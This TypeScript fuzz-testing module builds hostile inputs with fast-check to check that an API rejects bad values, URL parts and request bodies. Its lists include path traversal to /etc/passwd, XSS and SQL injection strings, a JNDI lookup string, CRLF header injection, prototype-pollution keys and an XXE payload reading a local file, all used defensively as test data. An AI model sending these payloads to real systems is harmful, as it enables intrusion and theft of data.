import fc from 'fast-check'

/** A number as written, which JavaScript would write otherwise. */
const written = (json: string): unknown =>
  (JSON as unknown as { rawJSON: (text: string) => unknown }).rawJSON(json)

/** An object with a field of this name; an assignment would set its prototype. */
const withKey = (key: string): unknown => JSON.parse(`{${JSON.stringify(key)}:{"isAdmin":true}}`)

function nested(depth: number): unknown {
  let value: unknown = 1
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { a: value }
  return value
}

/** Values to put in the place of a good one. */
export const hostileValues: readonly unknown[] = [
  null,
  true,
  [],
  {},
  '',
  ' ',
  -1,
  0.1,
  2 ** 53,
  -(2 ** 31) - 1,
  ...['5e-324', '1e-200', '-0', '1e126', '1e308', '1e999', '0.1e-999'].map(written),
  'NaN',
  '1e5',
  '0x10',
  '\ud800',
  'a\udc00b',
  '\u0000',
  '\u202ecsv.exe',
  '\ufeff',
  'é'.repeat(40_000),
  'x'.repeat(300_000),
  '../../../../etc/passwd',
  '%00',
  '%',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  "' OR 1=1 --",
  '{{7*7}}',
  `\${jndi:ldap://example.com}`,
  'a\r\nX-Injected: 1',
  '2026-02-30',
  '99999-01-01',
  '__proto__',
  withKey('__proto__'),
  withKey('constructor'),
  withKey('prototype'),
  withKey('\ud800'),
  { $ne: null },
  nested(33),
  nested(900),
  Array.from({ length: 5000 }, (_, n) => n),
]

/** Every place of a value, itself included. */
function countPlaces(value: unknown): number {
  if (typeof value !== 'object' || value === null) return 1
  return Object.values(value).reduce((sum: number, one) => sum + countPlaces(one), 1)
}

/** The value with another one at the n-th place. */
function replaceAt(value: unknown, place: number, other: unknown): unknown {
  if (place === 0) return other
  if (typeof value !== 'object' || value === null) return value
  let before = 1
  const changed = Object.entries(value).map(([key, one]) => {
    const count = countPlaces(one)
    const own = place - before
    before += count
    return [key, own >= 0 && own < count ? replaceAt(one, own, other) : one] as const
  })
  return Array.isArray(value) ? changed.map(([, one]) => one) : Object.fromEntries(changed)
}

/** Good values of which up to two places are hostile. */
export const spoiled = (good: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> =>
  fc
    .tuple(good, fc.array(fc.tuple(fc.nat(), fc.constantFrom(...hostileValues)), { maxLength: 2 }))
    .map(([value, changes]) =>
      changes.reduce(
        (changed, [at, other]) => replaceAt(changed, at % countPlaces(changed), other),
        value,
      ),
    )

/** A part of a path or query as it is written in an address. */
export const hostileParts: readonly string[] = [
  '%00',
  '%ED%A0%80',
  '%ff%fe',
  '%zz',
  '%',
  '..%2f..%2fadmin',
  '..',
  '.',
  '%2e%2e',
  '__proto__',
  'constructor',
  '-1',
  '1.5',
  '1e3',
  '0x10',
  '1e-320',
  '9007199254740993',
  'NaN',
  'Infinity',
  'null',
  '%F0%9F%8D%87',
  '%E2%80%AE',
  "'%20OR%201=1",
  '%3Cscript%3E',
  '%0d%0aX-Injected:%201',
  'a'.repeat(6000),
  '~',
  'somebody~key',
]

/** Bodies that are no JSON of ours at all. */
export const brokenBodies: readonly { readonly type: string; readonly body: Buffer }[] = [
  ['application/json', ''],
  ['application/json', '{'],
  ['application/json', '{"a":1}}'],
  ['application/json', '['.repeat(100_000)],
  ['application/json', `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`],
  ['application/json', 'undefined'],
  ['application/json', '\ufeff{}'],
  ['application/json', Buffer.from('{"email":"\xff\xfe"}', 'latin1')],
  ['application/json', Buffer.from('{"a":1}', 'utf16le')],
  ['application/json; charset=utf-16', '{}'],
  ['application/x-www-form-urlencoded', 'email=a%40b.se&__proto__[x]=1'],
  ['multipart/form-data; boundary=x', '--x\r\n\r\n{}\r\n--x--'],
  ['application/xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
  ['application/octet-stream', Buffer.alloc(64, 0)],
  ['text/plain', 'null'],
  ['', '{}'],
].map(([type = '', body = '']) => ({ type: String(type), body: Buffer.from(body) }))
